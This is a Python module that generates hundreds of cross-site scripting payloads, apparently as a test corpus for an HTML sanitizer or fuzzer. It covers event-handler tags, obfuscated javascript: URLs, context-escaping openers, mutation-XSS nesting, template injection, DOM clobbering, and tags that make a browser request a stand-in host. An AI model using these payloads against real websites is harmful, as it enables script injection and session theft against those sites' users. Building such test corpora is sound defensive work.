"""Words by which strangers try to have a browser run their script, or ask another host.

All are made here. ``XSS_LISTS`` may name a folder of text files with more, a payload a line
(public lists such as the Big List of Naughty Strings or OWASP's evasions); none is kept here.
"""

from __future__ import annotations

import os
from itertools import product
from pathlib import Path

RUN = "alert(1)"
ELSEWHERE = "//elsewhere.example/x"
EVENTS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onpointerenter", "onauxclick",
    "onanimationstart", "onbegin", "ontoggle", "oncut", "onwheel", "ONERROR", "oNcLiCk",
)  # fmt: skip
ELEMENTS = (
    "<img src=x {}>", "<svg {}>", "<body {}>", "<video><source {}></video>", "<audio src=x {}>",
    "<details open {}>x</details>", "<input autofocus {}>", "<a href=# {}>x</a>",
    "<p tabindex=0 {}>x</p>", "<iframe {}></iframe>", "<b contenteditable {}>x</b>",
)  # fmt: skip
SCHEMES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}",
    f" javascript:{RUN}", f"\x01javascript:{RUN}", f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}", f"&#x6A;&#x61;vascript:{RUN}", f"javascript://%0a{RUN}",
    f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", f"feed:javascript:{RUN}",
    f"view-source:javascript:{RUN}", f"jar:javascript:{RUN}", f"\u00a0javascript:{RUN}",
    f"javascript\u200b:{RUN}", f"https:javascript:{RUN}", f"//javascript:{RUN}",
)  # fmt: skip
LEADING = (
    '<a href="{}">x</a>', "<a href='{}'>x</a>", '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>', '<button formaction="{}">x</button>',
    '<object data="{}"></object>', '<embed src="{}">', '<base href="{}">',
    '<meta http-equiv=refresh content="0;url={}">', '<svg><a xlink:href="{}"><text>x</text></a>',
    '<math href="{}">x</math>', '<area href="{}">', '<link rel=stylesheet href="{}">',
)  # fmt: skip
SCRIPTS = (
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script >{RUN}</script >",
    f"<script\t>{RUN}</script\n>", f"<script/x>{RUN}</script>", f"<script\x0c>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<<script>{RUN}//<</script>",
    f"<script>{RUN}", f"<script src=data:,{RUN}></script>", f"<svg><script>{RUN}</script>",
    "<svg><script>&#97;lert(1)</script>", f"<math><script>{RUN}</script></math>",
    f"<script type=module>{RUN}</script>", "<script>\\u0061lert(1)</script>",
    f"<script>/*<!--*/{RUN}/*-->*/</script>", f"<!--><script>{RUN}</script>-->",
    "<script>eval('al'+'ert(1)')</script>", f"<script>setTimeout('{RUN}')</script>",
)  # fmt: skip
OPENERS = (
    '">', "'>", '"/>', "`>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>",
    "</template>", "-->", "--!>", "]]>", "</p></div></main>", '" autofocus onfocus="', "</option>",
    "</select>", "\\\">", "&quot;>", "%22%3E",
)  # fmt: skip
NESTED = (
    '<noscript><p title="</noscript>{0}"></p></noscript>',
    '<svg></p><style><a id="</style>{0}">',
    '<math><mtext><table><mglyph><style><!--</style><p title="--&gt;{0}">',
    "<form><math><mtext></form><form><mglyph><style></math>{0}",
    "<template>{0}</template>",
    '<xmp><p title="</xmp>{0}"></p></xmp>',
    "<listing>&lt;/listing&gt;{0}</listing>",
    '<iframe srcdoc="{0}"></iframe>',
    "<svg><foreignObject>{0}</foreignObject></svg>",
    "<table><tr><td>{0}</tr></table>",
    "<select><option>{0}</option></select>",
    "<svg><title>{0}</title></svg>",
    '<a title="</a>{0}">x</a>',
    "<textarea>{0}</textarea>",
    "<plaintext>{0}",
    '<math><annotation-xml encoding="text/html">{0}</annotation-xml></math>',
    "<details open><summary>{0}</summary></details>",
    "<p lang='{0}' dir=\"{0}\">x</p>",
)
INNER = (f"<img src=x onerror={RUN}>", f"<script>{RUN}</script>", f"<svg onload={RUN}>")
REQUESTS = (
    "<img src={0}>",
    "<img srcset='{0} 1x'>",
    "<video poster={0}></video>",
    "<input type=image src={0}>",
    "<link rel=stylesheet href={0}>",
    "<link rel=preload as=image href={0}>",
    "<p style='background:url({0})'>x</p>",
    "<style>@import '{0}';</style>",
    "<style>p{{background:url({0})}}</style>",
    "<table background={0}><tr><td>x</table>",
    "<iframe src={0}></iframe>",
    "<object data={0}></object>",
    "<embed src={0}>",
    "<audio src={0} autoplay></audio>",
    "<svg><image href={0} /></svg>",
    "<svg><use href={0}#x /></svg>",
    "<a href=# ping={0}>x</a>",
    "<meta http-equiv=refresh content='0;url={0}'>",
    "<base href={0}><img src=y>",
    "<track src={0}>",
    "<form action={0}><input type=submit id=submit></form>",
    "<p style=\"list-style:url('{0}')\">x</p>",
)
OTHERS = (
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "{{7*7}}",
    "{% debug %}",
    "';alert(1)//",
    '";alert(1)//',
    "\\';alert(1)//",
    "alert`1`",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>",
    "<\u200bscript>alert(1)</script>",
    "<form id=attributes><input name=nodeName>",
    "<img name=getElementById><img id=cookie>",
    "<a id=location href=javascript:alert(1)>x</a>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='behavior:url(#x);-moz-binding:url(#x)'>x</p>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY e '<script>alert(1)</script>'>]>&e;",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror='alert(1)' \"",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1)>",
    "<style>*{animation:x}@keyframes x{}</style><p onanimationstart=alert(1)>x</p>",
    "<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>",
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>x</p>",
)


def own() -> list[str]:
    """Return all payloads that are made here, none twice."""
    made = [
        *SCRIPTS,
        *(one.format(f"{event}={RUN}") for event, one in product(EVENTS, ELEMENTS)),
        *(one.format(scheme) for scheme, one in product(SCHEMES, LEADING)),
        *(f"{opener}{inner}" for opener, inner in product(OPENERS, INNER)),
        *(one.format(inner) for one, inner in product(NESTED, INNER)),
        *(one.format(ELSEWHERE) for one in REQUESTS),
        *SCHEMES,
        *OTHERS,
    ]
    return list(dict.fromkeys(made))


def listed() -> list[str]:
    """Return the payloads of the folder that ``XSS_LISTS`` names; none without it."""
    folder = os.environ.get("XSS_LISTS", "")
    files = sorted(Path(folder).glob("*")) if folder else []
    lines = [
        line
        for path in files
        for line in path.read_text(encoding="utf-8", errors="replace").splitlines()
        if line.strip() and not line.startswith("#")
    ]
    return list(dict.fromkeys(lines))
